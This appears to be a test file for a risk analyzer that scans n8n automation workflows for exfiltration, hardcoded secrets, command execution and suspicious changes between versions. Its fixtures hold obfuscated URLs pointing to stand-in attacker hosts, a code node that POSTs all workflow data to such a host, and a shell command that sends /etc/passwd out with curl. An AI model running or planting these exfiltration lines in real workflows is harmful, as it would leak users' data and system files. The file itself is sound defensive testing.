import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { templateWorkflow } from '../../src/main/demo/seed/pools/workflows'
import { Rng } from '../../src/main/demo/seed/prng'
import { analyzeWorkflow, diffWorkflows, RISK_LEVELS, type Finding } from '../../src/main/domains/marketplace/risk'

/** An n8n export: nodes keyed by name in `connections`, as n8n writes them. */
function workflow(nodes: { id: string; type: string; parameters?: unknown; credentials?: unknown }[], links: [string, string][] = []) {
  const connections: Record<string, { main: { node: string; type: string; index: number }[][] }> = {}
  for (const [from, to] of links) (connections[from] ??= { main: [[]] }).main[0]!.push({ node: to, type: 'main', index: 0 })
  return { name: 'Crafted', nodes: nodes.map((n, i) => ({ name: n.id, position: [i * 200, 0], typeVersion: 1, parameters: {}, ...n })), connections }
}

const http = (id: string, url: string, extra: Record<string, unknown> = {}) => ({ id, type: 'n8n-nodes-base.httpRequest', parameters: { method: 'POST', url, ...extra } })
const of = (findings: Finding[], kind: Finding['kind']) => findings.filter((f) => f.kind === kind)

describe('the risk analyzer', () => {
  it('resolves an obfuscated URL to its host and flags it', () => {
    const report = analyzeWorkflow(
      workflow([
        http('concat', "={{'https://' + 'ev' + 'il' + '.example' + '/collect'}}"),
        http('base64', "={{ atob('aHR0cHM6Ly9leGZpbC5leGFtcGxlL3g=') }}"),
        http('charcodes', '={{ String.fromCharCode(104,116,116,112,58,47,47,49,48,46,48,46,48,46,55) }}/in'),
        http('reversed', "={{ 'elpmaxe.tsoh-neddih//:sptth'.split('').reverse().join('') }}"),
        http('plain', 'https://api.hubspot.com/crm/v3/objects/contacts')
      ])
    )
    expect(report.hosts).toEqual(['10.0.0.7', 'api.hubspot.com', 'evil.example', 'exfil.example', 'hidden-host.example'])
    const hosts = Object.fromEntries(of(report.findings, 'outbound_host').map((f) => [f.nodeId, [f.evidence, f.severity]]))
    expect(hosts).toEqual({
      concat: ['evil.example', 'high'],
      base64: ['exfil.example', 'high'],
      charcodes: ['10.0.0.7', 'high'],
      reversed: ['hidden-host.example', 'high'],
      plain: ['api.hubspot.com', 'low']
    })
    expect(report.level).toBe('high')
  })

  it('flags a code node that fetches, with its code and the host it builds', () => {
    const code = "const target = ['https:/', '', 'data-sink.example', 'in'].join('/');\nawait fetch(target, { method: 'POST', body: JSON.stringify($input.all()) });\nreturn $input.all();"
    const report = analyzeWorkflow(workflow([{ id: 'code', type: 'n8n-nodes-base.code', parameters: { jsCode: code } }]))
    expect(of(report.findings, 'code_node')).toMatchObject([{ nodeId: 'code', path: 'jsCode', evidence: code }])
    expect(of(report.findings, 'code_network')).toMatchObject([{ nodeId: 'code', evidence: 'fetch', severity: 'high' }])
    expect(of(report.findings, 'outbound_host')).toMatchObject([{ nodeId: 'code', evidence: 'data-sink.example', severity: 'medium' }])
    expect(report.level).toBe('high')
  })

  it('finds a key split across two parameters', () => {
    const report = analyzeWorkflow(
      workflow([
        http('split', 'https://api.stripe.com/v1/charges', {
          headerParameters: { parameters: [{ name: 'X-Prefix', value: 'sk_live_51Hq' }, { name: 'X-Rest', value: 'Zc8d7e6f5a4b3c2d1e0f9a8b7' }] }
        })
      ])
    )
    expect(of(report.findings, 'split_secret')).toMatchObject([
      { nodeId: 'split', severity: 'critical', path: 'headerParameters.parameters.0.value + headerParameters.parameters.1.value' }
    ])
    expect(report.level).toBe('critical')
  })

  it('finds keys by their known patterns and by entropy, and never shows them whole', () => {
    const keys = {
      aws: 'AKIAIOSFODNN7EXAMPLE',
      github: `ghp_${'a1B2c3D4e5'.repeat(4)}`,
      openai: 'sk-proj-Xy12Ab34Cd56Ef78Gh90Ij',
      slack: 'xoxb-1234567890-abcdefghij',
      pem: '-----BEGIN RSA PRIVATE KEY-----\nMIIEow',
      built: "={{ 'sk_live_' + '4eC39HqLyjWDarjtT1zdp7dc' }}"
    }
    const nodes: { id: string; type: string; parameters: unknown }[] = Object.entries(keys).map(([id, value]) => ({ id, type: 'n8n-nodes-base.set', parameters: { values: { string: [{ name: 'x', value }] } } }))
    nodes.push({ id: 'random', type: 'n8n-nodes-base.set', parameters: { values: { string: [{ name: 'x', value: 'q8Zt3LmW9pRx2VbN7cYk4HsJ6dFg' }] } } })
    nodes.push({ id: 'named', type: 'n8n-nodes-base.httpRequest', parameters: { url: 'https://api.example.com', headerParameters: { parameters: [{ name: 'Authorization', value: 'Bearer hunter22' }] } } })
    const report = analyzeWorkflow(workflow(nodes))
    const secrets = of(report.findings, 'hardcoded_secret').map((f) => f.nodeId).sort()
    expect(secrets).toEqual(['aws', 'built', 'github', 'named', 'openai', 'pem', 'slack'])
    expect(of(report.findings, 'high_entropy_string').map((f) => f.nodeId)).toEqual(['random'])
    const shown = JSON.stringify(report)
    for (const key of [keys.aws, keys.github, keys.openai, keys.slack, '4eC39HqLyjWDarjtT1zdp7dc']) expect(shown).not.toContain(key)
  })

  it('lists credentials, webhooks, triggers, command nodes, fan-out and loops, each on its node', () => {
    const fanTargets = Array.from({ length: 12 }, (_, i) => ({ id: `t${i}`, type: 'n8n-nodes-base.set' }))
    const report = analyzeWorkflow(
      workflow(
        [
          { id: 'hook', type: 'n8n-nodes-base.webhook', parameters: { path: 'lead-intake', httpMethod: 'POST' } },
          { id: 'cron', type: 'n8n-nodes-base.scheduleTrigger' },
          { id: 'shell', type: 'n8n-nodes-base.executeCommand', parameters: { command: 'curl -d @/etc/passwd x' } },
          { id: 'crm', type: 'n8n-nodes-base.hubspot', credentials: { hubspotApi: { id: '7', name: 'HubSpot account' } } },
          { id: 'loopA', type: 'n8n-nodes-base.if' },
          { id: 'loopB', type: 'n8n-nodes-base.wait' },
          ...fanTargets
        ],
        [['hook', 'crm'], ['loopA', 'loopB'], ['loopB', 'loopA'], ...fanTargets.map((t) => ['crm', t.id] as [string, string])]
      )
    )
    const brief = (kind: Finding['kind']) => of(report.findings, kind).map((f) => [f.nodeId, f.severity, f.evidence])
    expect(brief('exposed_webhook')).toEqual([['hook', 'medium', 'lead-intake']])
    expect(brief('trigger')).toEqual([['cron', 'low', 'n8n-nodes-base.scheduleTrigger']])
    expect(brief('command_execution')).toEqual([['shell', 'critical', 'n8n-nodes-base.executeCommand']])
    expect(brief('credential_reference')).toEqual([['crm', 'low', 'HubSpot account']])
    expect(brief('fan_out')).toEqual([['crm', 'medium', '12']])
    expect(brief('loop')).toEqual([['loopA', 'low', '2']])
    expect(report.stats).toEqual({ nodes: 18, edges: 15, maxFanOut: 12, largestLoop: 2 })
    expect(report.level).toBe('critical')
  })

  it('rates a plain workflow low and says when a URL is only known at run time', () => {
    const clean = analyzeWorkflow(workflow([{ id: 'cron', type: 'n8n-nodes-base.scheduleTrigger' }, http('get', 'https://api.hubspot.com/x')], [['cron', 'get']]))
    expect(clean.level).toBe('low')
    const dynamic = analyzeWorkflow(workflow([http('dyn', '={{ $json.callbackUrl }}')]))
    expect(of(dynamic.findings, 'unresolved_url')).toMatchObject([{ nodeId: 'dyn', severity: 'medium' }])
  })

  it('never throws on arbitrary JSON and always returns a level', () => {
    const node = fc.record({ id: fc.string(), name: fc.string(), type: fc.string(), parameters: fc.jsonValue(), credentials: fc.jsonValue() }, { requiredKeys: [] })
    const shaped = fc.record({ nodes: fc.array(fc.oneof(node, fc.jsonValue()), { maxLength: 20 }), connections: fc.jsonValue() })
    fc.assert(
      fc.property(fc.oneof(fc.jsonValue(), shaped), (input) => {
        const report = analyzeWorkflow(input)
        expect(RISK_LEVELS).toContain(report.level)
        diffWorkflows(input, shaped)
      }),
      { numRuns: 500 }
    )
  })
})

describe('analysis time', () => {
  it('analyzes a 500-node workflow well within the 200 ms the review screen allows (layout included later)', () => {
    const big = templateWorkflow('giant', 'Bulk import', new Rng(7, 'risk-bench'), 500)
    const times: number[] = []
    let report = analyzeWorkflow(big)
    for (let i = 0; i < 9; i++) {
      const started = performance.now()
      report = analyzeWorkflow(big)
      times.push(performance.now() - started)
    }
    times.sort((a, b) => a - b)
    console.info(`risk analysis of 500 nodes: median ${times[4]!.toFixed(1)} ms, max ${times[8]!.toFixed(1)} ms`)
    expect(report.stats.nodes).toBe(500)
    expect(report.findings.filter((f) => f.kind === 'fan_out')).toHaveLength(9)
    expect(times[4]).toBeLessThan(200)
  })
})

describe('the version diff', () => {
  it('reports nodes added, removed and changed, with parameter-level differences', () => {
    const before = workflow([http('fetch', 'https://api.hubspot.com/x'), { id: 'old', type: 'n8n-nodes-base.set' }, { id: 'keep', type: 'n8n-nodes-base.if' }], [['keep', 'fetch']])
    const after = workflow(
      [http('fetch', 'https://collector.example/x', { sendBody: true }), { id: 'keep', type: 'n8n-nodes-base.if' }, { id: 'new', type: 'n8n-nodes-base.code', parameters: { jsCode: 'return []' } }],
      [['keep', 'fetch'], ['fetch', 'new']]
    )
    const diff = diffWorkflows(before, after)
    expect(diff.added.map((n) => n.id)).toEqual(['new'])
    expect(diff.removed.map((n) => n.id)).toEqual(['old'])
    expect(diff.changed).toEqual([
      {
        id: 'fetch',
        name: 'fetch',
        type: 'n8n-nodes-base.httpRequest',
        changes: [
          { path: 'parameters.url', before: 'https://api.hubspot.com/x', after: 'https://collector.example/x' },
          { path: 'parameters.sendBody', before: undefined, after: true }
        ]
      }
    ])
    expect(diff.edgesAdded).toEqual([{ from: 'fetch', to: 'new' }])
    expect(diff.edgesRemoved).toEqual([])
  })
})
